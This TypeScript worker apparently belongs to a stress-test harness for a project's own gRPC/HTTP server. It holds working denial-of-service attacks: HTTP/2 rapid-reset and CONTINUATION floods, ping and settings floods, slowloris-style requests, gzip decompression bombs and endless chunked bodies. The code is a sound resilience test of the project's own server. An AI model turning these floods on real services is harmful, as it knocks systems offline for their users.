/**
 * One attack on the gRPC or HTTP server, in its own thread, so that it does not slow down the
 * measurement. Ends after its time, or when the server has closed all its connections.
 */
import { gzipSync } from "node:zlib";
import { parentPort, workerData } from "node:worker_threads";
import {
  callHeaders,
  FLAG,
  FRAME,
  frame,
  headerBlock,
  http2Frame,
  PREFACE,
  RawConnection,
} from "./http2-frames.ts";
import { pace } from "./eventually.ts";

export interface AttackOrder {
  readonly address: string;
  readonly attack: AttackName;
  readonly lastsMs: number;
}

export interface AttackReport {
  /** Bytes that the attacker sent. */
  readonly sentBytes: number;
  /** Its connections, and how many of them the server closed. */
  readonly connections: number;
  readonly closed: number;
}

export type AttackName = keyof typeof ATTACKS;

const PUSH = "/ambient.v1.SessionService/PushSessionEvent";
const SETTINGS = http2Frame({ type: FRAME.settings });
const BURST = 1_000;

type Attack = (attacker: Attacker) => Promise<void>;

class Attacker {
  readonly #address: string;
  readonly #untilMs: number;
  readonly #connections: RawConnection[] = [];
  sentBytes = 0;
  closed = 0;

  constructor({ address, lastsMs }: AttackOrder) {
    this.#address = address;
    this.#untilMs = performance.now() + lastsMs;
  }

  get isOver(): boolean {
    return performance.now() > this.#untilMs;
  }

  get connections(): number {
    return this.#connections.length;
  }

  async connect(): Promise<RawConnection> {
    const connection = await RawConnection.to(this.#address);
    this.#connections.push(connection);
    connection.socket.once("close", () => {
      this.closed += 1;
    });
    return connection;
  }

  /** Waits while the socket is full; false: the connection or the time is over. */
  async send(connection: RawConnection, bytes: Buffer): Promise<boolean> {
    this.sentBytes += bytes.length;
    if (!connection.write(bytes) && !connection.socket.destroyed) {
      const drained = new Promise((resolve) => connection.socket.once("drain", resolve));
      await Promise.race([drained, connection.closed, this.end()]);
    } else {
      await new Promise((resolve) => setImmediate(resolve));
    }
    return !connection.socket.destroyed && !this.isOver;
  }

  /** Sends the same again and again. */
  async flood(connection: RawConnection, bytes: Buffer): Promise<void> {
    while (await this.send(connection, bytes)) continue;
  }

  /** Until the time is over or all connections are closed. */
  async wait(): Promise<void> {
    const all = this.#connections.map(({ closed }) => closed);
    await Promise.race([Promise.all(all), this.end()]);
  }

  end(): Promise<void> {
    return pace(Math.max(0, this.#untilMs - performance.now()));
  }

  close(): void {
    for (const connection of this.#connections) connection.socket.destroy();
  }
}

function headers(stream: number, more: readonly (readonly [string, string])[] = []): Buffer {
  return http2Frame(
    { type: FRAME.headers, flags: FLAG.endHeaders, stream },
    callHeaders(PUSH, more),
  );
}

function reset(stream: number, code = 8): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(code);
  return http2Frame({ type: FRAME.reset, stream }, payload);
}

/** Stream numbers as a client counts them, in bursts. */
async function inBursts(
  attacker: Attacker,
  connection: RawConnection,
  bytesOf: (stream: number) => Buffer,
): Promise<void> {
  let stream = 1;
  const next = (): Buffer => {
    const bytes = bytesOf(stream);
    stream += 2;
    return bytes;
  };
  while (await attacker.send(connection, Buffer.concat(Array.from({ length: 200 }, next))))
    continue;
}

function floodOf(bytes: Buffer, options: { readonly reads: boolean } = { reads: true }): Attack {
  const burst = Buffer.concat(Array.from({ length: BURST }, () => bytes));
  return async (attacker) => {
    const connection = (await attacker.connect()).begin();
    if (!options.reads) connection.socket.pause();
    await attacker.flood(connection, burst);
  };
}

const ATTACKS = {
  async "connections that say nothing"(attacker) {
    for (let count = 0; count < 200; count += 1) await attacker.connect();
    await attacker.wait();
  },
  async "half a preface"(attacker) {
    for (let count = 0; count < 200; count += 1) {
      (await attacker.connect()).write(PREFACE.subarray(0, 10));
    }
    await attacker.wait();
  },
  async "headers that do not end"(attacker) {
    for (let count = 0; count < 50; count += 1) {
      const connection = (await attacker.connect()).begin();
      connection.write(http2Frame({ type: FRAME.headers, stream: 1 }, callHeaders(PUSH)));
    }
    await attacker.wait();
  },
  async "continuations without end"(attacker) {
    const connection = (await attacker.connect()).begin();
    connection.write(http2Frame({ type: FRAME.headers, stream: 1 }, callHeaders(PUSH)));
    const more = headerBlock([["x", "y".repeat(1_000)]]);
    await attacker.flood(connection, http2Frame({ type: FRAME.continuation, stream: 1 }, more));
  },
  async "headers that are too large"(attacker) {
    const connection = (await attacker.connect()).begin();
    await inBursts(attacker, connection, (stream) =>
      headers(stream, [
        ["x-large", "y".repeat(15_000)],
        ["x-larger", "y".repeat(1_000)],
      ]),
    );
  },
  pings: floodOf(http2Frame({ type: FRAME.ping }, Buffer.alloc(8))),
  "pings whose answers are not read": floodOf(http2Frame({ type: FRAME.ping }, Buffer.alloc(8)), {
    reads: false,
  }),
  settings: floodOf(SETTINGS),
  "settings whose answers are not read": floodOf(SETTINGS, { reads: false }),
  "unknown frames": floodOf(http2Frame({ type: 0xbb }, Buffer.alloc(16))),
  async "streams that are taken back"(attacker) {
    const connection = (await attacker.connect()).begin();
    await inBursts(attacker, connection, (stream) =>
      Buffer.concat([headers(stream), reset(stream)]),
    );
  },
  async "streams that make the server take them back"(attacker) {
    const connection = (await attacker.connect()).begin();
    const zero = Buffer.alloc(4);
    await inBursts(attacker, connection, (stream) =>
      Buffer.concat([headers(stream), http2Frame({ type: FRAME.windowUpdate, stream }, zero)]),
    );
  },
  async "ten thousand streams at once"(attacker) {
    const connection = (await attacker.connect()).begin();
    for (let stream = 1; stream < 20_000; stream += 2) {
      if (!(await attacker.send(connection, headers(stream)))) return;
    }
    await attacker.wait();
  },
  async "empty data"(attacker) {
    const connection = (await attacker.connect()).begin();
    connection.write(headers(1));
    const empty = http2Frame({ type: FRAME.data, stream: 1 });
    await attacker.flood(connection, Buffer.concat(Array.from({ length: BURST }, () => empty)));
  },
  async "data in pieces of one byte"(attacker) {
    const connection = (await attacker.connect()).begin();
    const head = Buffer.from([0, 0, 0x3f, 0xff, 0xff]);
    for (let stream = 1; stream < 400; stream += 2) {
      connection.write(headers(stream), http2Frame({ type: FRAME.data, stream }, head));
    }
    const piece = Buffer.from([0]);
    for (let round = 0; round < 60; round += 1) {
      for (let stream = 1; stream < 400; stream += 2) {
        const one = http2Frame({ type: FRAME.data, stream }, piece);
        const many = Buffer.concat(Array.from({ length: BURST }, () => one));
        if (!(await attacker.send(connection, many))) return;
      }
    }
    await attacker.wait();
  },
  async "messages that unpack to a thousand times their size"(attacker) {
    const bomb = frame(gzipSync(Buffer.alloc(64 * 1_048_576)), true);
    const connection = (await attacker.connect()).begin();
    const pieces: Buffer[] = [];
    for (let at = 0; at < bomb.length; at += 16_384) pieces.push(bomb.subarray(at, at + 16_384));
    await inBursts(attacker, connection, (stream) =>
      Buffer.concat([
        headers(stream, [["grpc-encoding", "gzip"]]),
        ...pieces.map((piece, at) => {
          const flags = at === pieces.length - 1 ? FLAG.endStream : 0;
          return http2Frame({ type: FRAME.data, flags, stream }, piece);
        }),
      ]),
    );
  },
  async garbage(attacker) {
    const noise = Buffer.from(Array.from({ length: 65_536 }, (_, at) => (at * 7919) % 251));
    for (let count = 0; count < 50; count += 1) {
      const connection = await attacker.connect();
      await attacker.send(connection, count % 2 === 0 ? noise : Buffer.concat([PREFACE, noise]));
    }
    await attacker.wait();
  },
  async "http: requests that come a byte at a time"(attacker) {
    const lines = Buffer.from(`GET / HTTP/1.1\r\nhost: localhost\r\nx: ${"y".repeat(10_000)}`);
    const all = Array.from({ length: 100 }, () => attacker.connect());
    const connections = await Promise.all(all);
    for (let at = 0; at < lines.length && attacker.closed < connections.length; at += 1) {
      if (attacker.isOver) return;
      for (const connection of connections) connection.write(lines.subarray(at, at + 1));
      await pace(100);
    }
  },
  async "http: headers without end"(attacker) {
    for (let count = 0; count < 50; count += 1) {
      const connection = await attacker.connect();
      connection.write(Buffer.from("GET / HTTP/1.1\r\nhost: localhost\r\n"));
      const line = Buffer.from("x-more: and more\r\n".repeat(100));
      await attacker.flood(connection, line);
    }
  },
  async "http: a body in chunks without end"(attacker) {
    for (let count = 0; count < 20; count += 1) {
      const connection = await attacker.connect();
      connection.write(post("transfer-encoding: chunked"));
      const chunk = Buffer.from(`10000\r\n${"x".repeat(65_536)}\r\n`);
      await attacker.flood(connection, chunk);
    }
  },
  async "http: chunks that are nearly all extension"(attacker) {
    const connection = await attacker.connect();
    connection.write(post("transfer-encoding: chunked"));
    await attacker.flood(connection, Buffer.from(`1;${"e".repeat(10_000)}\r\nx\r\n`));
  },
  async "http: lines without end"(attacker) {
    const more = "content-type: application/x-ndjson\r\ntransfer-encoding: chunked\r\n\r\n";
    const chunk = Buffer.from(`10000\r\n${"x".repeat(65_536)}\r\n`);
    const attack = async (session: string): Promise<void> => {
      const connection = await attacker.connect();
      const head = `POST /api/ambient/v1/sessions/${session}/events HTTP/1.1\r\nhost: localhost\r\n`;
      connection.write(Buffer.from(head + more));
      await attacker.flood(connection, chunk);
    };
    await Promise.all(Array.from({ length: 20 }, (_, at) => attack(`lines-${at}`)));
  },
  async "http: packed bodies"(attacker) {
    const bomb = gzipSync(Buffer.alloc(64 * 1_048_576));
    const connection = await attacker.connect();
    const request = Buffer.concat([
      post(`content-encoding: gzip\r\ncontent-length: ${bomb.length}`),
      bomb,
    ]);
    await attacker.flood(connection, request);
  },
  async "http: requests that do not wait for answers"(attacker) {
    const connection = await attacker.connect();
    const request = "GET /api/ambient/v1/sessions HTTP/1.1\r\nhost: localhost\r\n\r\n";
    await attacker.flood(connection, Buffer.from(request.repeat(BURST)));
  },
  async "http: garbage"(attacker) {
    const noise = Buffer.from(Array.from({ length: 65_536 }, (_, at) => (at * 7919) % 251));
    for (let count = 0; count < 50; count += 1)
      await attacker.send(await attacker.connect(), noise);
    await attacker.wait();
  },
} satisfies Record<string, Attack>;

function post(more: string): Buffer {
  const head = "POST /api/ambient/v1/sessions/s1/messages HTTP/1.1\r\nhost: localhost\r\n";
  return Buffer.from(`${head}content-type: application/json\r\n${more}\r\n\r\n`);
}

async function run(order: AttackOrder): Promise<AttackReport> {
  const attacker = new Attacker(order);
  await ATTACKS[order.attack](attacker);
  await pace(50); // What the server says last is on its way.
  const { sentBytes, connections, closed } = attacker;
  attacker.close();
  return { sentBytes, connections, closed };
}

if (parentPort !== null) parentPort.postMessage(await run(workerData));
